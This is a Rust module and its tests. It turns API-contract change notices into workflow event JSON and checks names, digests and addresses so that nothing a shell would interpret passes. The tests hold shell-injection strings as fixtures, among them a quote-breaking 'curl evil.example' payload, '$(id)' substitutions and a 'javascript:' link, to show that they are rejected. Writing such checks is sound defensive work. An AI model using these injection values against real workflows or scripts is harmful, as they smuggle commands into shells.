use crate::{Notice, clean};
use countersign_plugin::{Failure, diagnostic};
use serde_json::{Map, Value, json};

/// The version of the event's shape.
const SCHEMA: u32 = 1;

/// The links that an event carries.
const LINKS: [&str; 4] = ["commit", "compare", "snapshot", "pull-request"];

/// The longest link.
const LONGEST_LINK: usize = 2000;

/// What a notice says to a workflow: names, digests, counts and links. No text of a specification is in it, and no
/// character that a shell reads, since workflows do put such values into their scripts.
///
/// # Errors
/// [`Failure::InvalidInput`] where a name or a digest of the notice is none.
pub fn event(notice: &Notice, key: &str) -> Result<Value, Failure> {
    let counts = notice.counts();
    let client = notice.client.as_deref().filter(|client| !client.is_empty());
    let provider = notice.provider.as_ref();
    let repository = provider.map(|provider| provider.repository.as_str()).filter(|text| is_address(text));
    let path = provider.map(|provider| provider.path.as_str()).filter(|text| is_address(text));
    Ok(json!({
        "schema": SCHEMA,
        "key": checked("key", key, is_hexadecimal)?,
        "name": checked("contract", &notice.contract, is_name)?,
        "client": client.map(|client| checked("client", client, is_name)).transpose()?,
        "commit": checked("commit", &notice.commit, is_hexadecimal)?,
        "repository": repository,
        "path": path,
        "from": notice.from.as_deref().map(|digest| checked("from", digest, is_digest)).transpose()?,
        "to": checked("to", &notice.to, is_digest)?,
        "verdict": notice.verdict.as_str(),
        "counts": {
            "breaking": counts.breaking,
            "risky": counts.risky,
            "compatible": counts.compatible,
            "total": notice.total,
        },
        "links": links(notice),
    }))
}

fn links(notice: &Notice) -> Map<String, Value> {
    let known = LINKS.iter().filter_map(|name| Some((*name, notice.link(name)?)));
    let short = known.filter(|(_, url)| url.len() <= LONGEST_LINK);
    short.map(|(name, url)| (name.to_owned(), url.into())).collect()
}

fn checked<'a>(what: &str, text: &'a str, is_right: fn(&str) -> bool) -> Result<&'a str, Failure> {
    if is_right(text) {
        return Ok(text);
    }
    let shown: String = clean(text).chars().take(80).collect();
    let message = format!("the notice's `{what}` cannot be put into an event: {shown}");
    Err(Failure::InvalidInput(vec![diagnostic("invalid-notice", message)]))
}

fn is_hexadecimal(text: &str) -> bool {
    (1..=128).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_hexdigit())
}

fn is_digest(text: &str) -> bool {
    text.strip_prefix("sha256:").is_some_and(is_hexadecimal)
}

fn is_name(text: &str) -> bool {
    (1..=64).contains(&text.len())
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
}

/// An address of a repository or a path: what a shell, and the expressions of a workflow, take as it is.
fn is_address(text: &str) -> bool {
    (1..=1000).contains(&text.len())
        && !text.starts_with('-')
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_./:@+,=".contains(&byte))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn payload(more: &Value) -> Notice {
        let mut payload = json!({
            "schema_version": 1, "key": "k", "contract": "watcher", "client": "dashboard", "commit": "c0ffee",
            "from": format!("sha256:{}", "1".repeat(64)), "to": format!("sha256:{}", "2".repeat(64)),
            "verdict": "breaking", "total": 120, "counts": { "breaking": 1, "risky": 2, "compatible": 117 },
            "provider": { "repository": "github:acme/api", "path": "contracts/watcher/snapshot.json" },
            "findings": [{ "rule": "response-property-removed", "impact": "breaking",
                "summary": "property `secret-of-the-spec` was removed", "operations": ["GET /of-the-spec"] }],
            "links": { "compare": "https://github.com/acme/api/compare/a...b", "other": "https://x.example/",
                "commit": "javascript:alert(1)" },
        });
        for (key, value) in more.as_object().unwrap() {
            payload[key] = value.clone();
        }
        Notice::parse(&payload.to_string()).unwrap()
    }

    #[test]
    fn it_holds_digests_verdict_counts_and_links_and_nothing_of_the_specification() {
        let event = event(&payload(&json!({})), "0123456789abcdef").unwrap();
        assert_eq!(
            event,
            json!({
                "schema": 1, "key": "0123456789abcdef", "name": "watcher", "client": "dashboard",
                "commit": "c0ffee", "repository": "github:acme/api", "path": "contracts/watcher/snapshot.json",
                "from": format!("sha256:{}", "1".repeat(64)), "to": format!("sha256:{}", "2".repeat(64)),
                "verdict": "breaking",
                "counts": { "breaking": 1, "risky": 2, "compatible": 117, "total": 120 },
                "links": { "compare": "https://github.com/acme/api/compare/a...b" },
            })
        );
    }

    #[test]
    fn what_an_older_payload_lacks_is_null() {
        let old =
            payload(&json!({ "client": "", "from": null, "provider": null, "verdict": "new", "links": {} }));
        let event = event(&old, "0a").unwrap();
        for key in ["client", "from", "repository", "path"] {
            assert!(event[key].is_null(), "{key}");
        }
        assert_eq!(event["links"], json!({}));
    }

    #[test]
    fn nothing_that_a_shell_reads_gets_through() {
        for (key, value) in [
            ("contract", "a\"; curl evil.example #"),
            ("client", "$(id)"),
            ("commit", "HEAD`id`"),
            ("to", "sha256:xyz"),
            ("from", "md5:00"),
        ] {
            let failure = event(&payload(&json!({ key: value })), "0a").unwrap_err();
            assert!(matches!(failure, Failure::InvalidInput(_)), "{key}");
        }
        let odd = payload(&json!({ "provider": { "repository": "github:a/$(id)", "path": "a b;c" } }));
        let event = event(&odd, "0a").unwrap();
        assert!(event["repository"].is_null() && event["path"].is_null());
    }

    #[test]
    fn the_largest_event_is_far_below_the_limit() {
        let long = |start: &str| format!("https://github.com/{start}/{}", "x".repeat(5000));
        let links = json!({ "commit": long("a"), "compare": long("b"), "snapshot": long("c") });
        let path = "p".repeat(1000);
        let large = payload(&json!({ "links": links, "provider": { "repository": path, "path": path } }));
        // GitHub takes less than 64 KB.
        assert!(event(&large, &"a".repeat(128)).unwrap().to_string().len() < 16_000);
    }
}
